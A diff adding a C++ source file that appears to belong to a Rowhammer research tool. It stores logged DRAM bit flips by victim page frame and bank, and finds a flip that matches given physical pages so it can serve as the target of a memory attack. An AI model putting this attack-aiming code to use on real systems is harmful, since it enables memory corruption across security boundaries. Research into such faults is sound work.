@@ -0,0 +1,112 @@
+// Copyright 2019, Sangwoo Ji
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+#include "pinpoint_discovery.h"
+
+#include <string.h>
+#include "pinpoint_serialize.h"
+
+namespace {
+
+const char kDiscoveryMagic[8] = {'P', 'P', 'F', 'L', 'I', 'P', '1', '\0'};
+
+// Whether page lies in the row_pages long row starting at row_pfn.
+bool InRow(uint64_t page, uint64_t row_pfn, uint64_t row_pages) {
+  return page >= row_pfn && page < row_pfn + row_pages;
+}
+
+}  // namespace
+
+bool WriteDiscoveryHeader(FILE* file, uint8_t fill) {
+  bool ok = fwrite(kDiscoveryMagic, sizeof(kDiscoveryMagic), 1, file) == 1;
+  ok = ok && WriteValue(file, fill);
+  return ok;
+}
+
+bool WriteDiscoveredVictim(FILE* file, const DiscoveredVictim& victim) {
+  bool ok = fwrite(victim.page_frame_numbers,
+      sizeof(victim.page_frame_numbers), 1, file) == 1;
+  ok = ok && WriteValue(file, victim.bank);
+  ok = ok && WriteValue(file, static_cast<uint32_t>(victim.flips.size()));
+  for (const DiscoveredFlip& flip : victim.flips) {
+    ok = ok && WriteValue(file, flip.offset) && WriteValue(file, flip.bits);
+  }
+  return ok;
+}
+
+bool ReadDiscoveryLog(const char* path, DiscoveryLog* log) {
+  FILE* file = fopen(path, "rb");
+  if (file == NULL) {
+    return false;
+  }
+  char magic[sizeof(kDiscoveryMagic)];
+  bool ok = fread(magic, sizeof(magic), 1, file) == 1 &&
+      memcmp(magic, kDiscoveryMagic, sizeof(magic)) == 0 &&
+      ReadValue(file, &log->fill);
+
+  log->victims.clear();
+  while (ok) {
+    DiscoveredVictim victim;
+    uint32_t num_flips;
+    if (fread(victim.page_frame_numbers, sizeof(victim.page_frame_numbers),
+          1, file) != 1) {
+      break;
+    }
+    bool complete = ReadValue(file, &victim.bank) &&
+        ReadValue(file, &num_flips) && num_flips <= 0x1000;
+    for (uint32_t f = 0; complete && f < num_flips; f++) {
+      DiscoveredFlip flip;
+      complete = ReadValue(file, &flip.offset) && ReadValue(file, &flip.bits)
+          && flip.offset < 0x1000 && flip.bits != 0;
+      victim.flips.push_back(flip);
+    }
+    // A run that was cut off may leave a partial last victim; keep the rest.
+    if (!complete) {
+      fprintf(stderr, "[-] Ignoring a truncated victim at the end of %s\n",
+          path);
+      break;
+    }
+    if (!victim.flips.empty()) {
+      log->victims.insert(
+          std::make_pair(victim.page_frame_numbers[1], victim));
+    }
+  }
+  fclose(file);
+  return ok;
+}
+
+bool FindDiscoveredTarget(const DiscoveryLog& log,
+    const uint64_t page_frame_numbers[3], uint8_t bank, uint64_t row_bytes,
+    BitFlip* target) {
+  uint64_t row_pages = row_bytes / 0x1000;
+  std::map<uint64_t, DiscoveredVictim>::const_iterator victim =
+      log.victims.lower_bound(page_frame_numbers[1]);
+  for (; victim != log.victims.end() &&
+      victim->first < page_frame_numbers[1] + row_pages; ++victim) {
+    const uint64_t* logged = victim->second.page_frame_numbers;
+    if (victim->second.bank != bank ||
+        !InRow(logged[0], page_frame_numbers[0], row_pages) ||
+        !InRow(logged[2], page_frame_numbers[2], row_pages)) {
+      continue;
+    }
+    const DiscoveredFlip& flip = victim->second.flips[0];
+    uint64_t offset =
+        (victim->first - page_frame_numbers[1]) * 0x1000 + flip.offset;
+    target->index = offset / 8;
+    target->bit_offset = (offset % 8) * 8 + __builtin_ctz(flip.bits);
+    target->bit_mask = 1UL << target->bit_offset;
+    return true;
+  }
+  return false;
+}